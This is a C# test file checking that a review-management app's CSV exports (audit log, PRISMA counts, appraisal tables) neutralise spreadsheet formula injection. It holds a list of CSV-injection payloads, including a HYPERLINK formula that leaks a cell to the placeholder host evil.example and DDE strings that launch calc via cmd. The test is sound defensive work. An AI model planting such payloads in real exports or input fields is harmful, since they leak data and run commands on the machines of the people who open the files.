using System.Net;
using System.Text.RegularExpressions;
using EventReview.Appraisal;
using EventReview.Tests.AppraisalFlow;
using EventReview.Tests.Infrastructure;
using Shouldly;

namespace EventReview.Tests.Security;

/// <summary>
/// Text that users type (search sources and filters, exclusion reasons, notes, names, imported authors, instrument
/// labels) reaches every CSV the product writes; opened in a spreadsheet, none of it may run as a formula.
/// </summary>
public partial class CsvInjectionTests(AppFixture app) : IClassFixture<AppFixture>
{
    private const string FormulaStarts = "=+-@\t\r";

    /// <summary>One attack per character a spreadsheet takes as the start of a formula.</summary>
    private static readonly string[] Attacks =
    [
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Error: please click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "\t=1+2",
        "\r=1+2",
    ];

    [Fact]
    public async Task No_cell_of_any_csv_starts_a_formula_whatever_users_typed()
    {
        var scenario = await AppraisalScenario.WithAppraisersAsync(app);
        var review = scenario.Review;
        const string mallory = "=mallory";
        await review.OkAsync(review.Lead, HttpMethod.Post, "/members", new { userId = mallory, name = "@Mallory", roles = new[] { "appraiser" }, note = Attacks[0] });
        await review.OkAsync(review.Lead, HttpMethod.Post, "/instruments", Checklist());

        var records = new List<Guid>();
        for (var i = 0; i < Attacks.Length; i++)
        {
            var created = await review.SendAsync(review.Lead, HttpMethod.Post, "/searches",
                new { source = Attacks[i], kind = "database", query = "stem cells", searchedOn = "2025-03-24", filters = Attacks[i], reportedCount = 1 });
            var search = (await created.ReadJsonAsync<Created>(HttpStatusCode.Created)).Id;
            var ris = $"TY  - JOUR\r\nTI  - {Attacks[i].Trim()}\r\nAU  - {Attacks[i].Trim()}\r\nAU  - Coauthor, B.\r\nPY  - 2021\r\n"
                + $"DO  - 10.1000/inject.{i}.{Guid.NewGuid():N}\r\nER  - \r\n\r\n";
            records.Add((await review.ImportAsync(search, ris)).RecordIds!.ShouldHaveSingleItem());
            await review.OkAsync(review.Lead, HttpMethod.Post, "/exclusion-reasons", new { code = $"inject-{i}", label = Attacks[i], stage = "full-text" });
        }
        for (var i = 0; i < records.Count; i++)
        {
            (await review.VoteAsync(review.S1, records[i], "include", note: Attacks[i])).StatusCode.ShouldBe(HttpStatusCode.OK);
            (await review.VoteAsync(review.S2, records[i], "include")).StatusCode.ShouldBe(HttpStatusCode.OK);
            (await review.RetrievalAsync(records[i], true, Attacks[i])).StatusCode.ShouldBe(HttpStatusCode.OK);
        }
        for (var i = 0; i < 4; i++)
        {
            (await review.VoteAsync(review.S1, records[i], "exclude", "full-text", $"inject-{i}", Attacks[i])).StatusCode.ShouldBe(HttpStatusCode.OK);
            (await review.VoteAsync(review.S2, records[i], "exclude", "full-text", $"inject-{i}")).StatusCode.ShouldBe(HttpStatusCode.OK);
        }
        await scenario.RatedAsync(mallory, records[5], "inject", AppraisalScenario.Ratings(("dose", "yes"), ("source", "no")), note: Attacks[3]);
        // A second instrument in use puts each table's title (the instrument's name) above it.
        await scenario.RatedAsync(scenario.A1, records[4], Sanra2.Id, AppraisalScenario.Seed("Hu et al. (2024)").Ratings);

        var audit = await CsvAsync(review, "/audit?format=csv");
        var prisma = await CsvAsync(review, "/prisma.csv");
        var appraisals = await CsvAsync(review, "/appraisals.csv");
        var oneTable = await CsvAsync(review, "/appraisals?format=csv&instrument=inject");

        NoCellStartsAFormula(audit, "audit");
        NoCellStartsAFormula(prisma, "prisma.csv", numbersAllowedIn: 7);
        NoCellStartsAFormula(appraisals, "appraisals.csv");
        NoCellStartsAFormula(oneTable, "appraisals?format=csv");

        // The text is all there, with the quote that tells a spreadsheet it is text.
        var auditCells = audit.SelectMany(r => r).ToList();
        foreach (var attack in Attacks) auditCells.ShouldContain("'" + attack);
        auditCells.ShouldContain("'" + mallory);
        prisma.Single(r => r[0] == "database_specific_results")[7].ShouldStartWith("'");
        prisma.Single(r => r[0] == "dbr_excluded")[7].ShouldStartWith("'");
        prisma.Where(r => r[0] is "database_results" or "records_screened").Select(r => r[7]).ShouldBe(["6", "6"]);
        oneTable[0].ShouldContain("'" + Attacks[0]);
        oneTable[0].ShouldContain("'" + Attacks[1]);
        oneTable.Skip(1).Single(r => r.Count > 1)[0].ShouldBe("'" + Attacks[5].Trim() + " et al. (2021)");
        appraisals.ShouldContain(r => r.Count == 1 && r[0].StartsWith("'" + Attacks[2], StringComparison.Ordinal));
    }

    /// <summary>A custom instrument whose name and item labels are attacks.</summary>
    private static object Checklist() => new
    {
        id = "inject",
        version = "1.0",
        name = Attacks[2],
        items = new object[]
        {
            new { id = "dose", text = "Is the dose reported?", label = Attacks[0] },
            new { id = "source", text = "Is the source described?", label = Attacks[1] },
        },
        ratings = new object[] { new { code = "no", label = "No" }, new { code = "yes", label = "Yes" } },
        defaultScoring = new { points = new Dictionary<string, int> { ["no"] = 0, ["yes"] = 1 }, thresholdPercent = 50, notApplicable = "exclude-from-denominator" },
    };

    private static async Task<IReadOnlyList<IReadOnlyList<string>>> CsvAsync(ReviewScenario review, string path)
    {
        var response = await review.SendAsync(review.Lead, HttpMethod.Get, path);
        var text = await response.Content.ReadAsStringAsync();
        response.StatusCode.ShouldBe(HttpStatusCode.OK, text);
        response.Content.Headers.ContentType?.MediaType.ShouldBe("text/csv");
        return Rfc4180.Read(text);
    }

    /// <summary>Every cell is text a spreadsheet shows as text; a number may start with '-' only in the given column.</summary>
    private static void NoCellStartsAFormula(IReadOnlyList<IReadOnlyList<string>> rows, string file, int? numbersAllowedIn = null)
    {
        rows.Count.ShouldBeGreaterThan(1, file);
        for (var r = 0; r < rows.Count; r++)
            for (var c = 0; c < rows[r].Count; c++)
            {
                var cell = rows[r][c];
                if (cell.Length == 0 || !FormulaStarts.Contains(cell[0], StringComparison.Ordinal)) continue;
                (c == numbersAllowedIn && Number().IsMatch(cell)).ShouldBeTrue($"{file} row {r + 1} column {c + 1} starts a formula: {cell}");
            }
    }

    [GeneratedRegex("^-?[0-9]+$")]
    private static partial Regex Number();
}
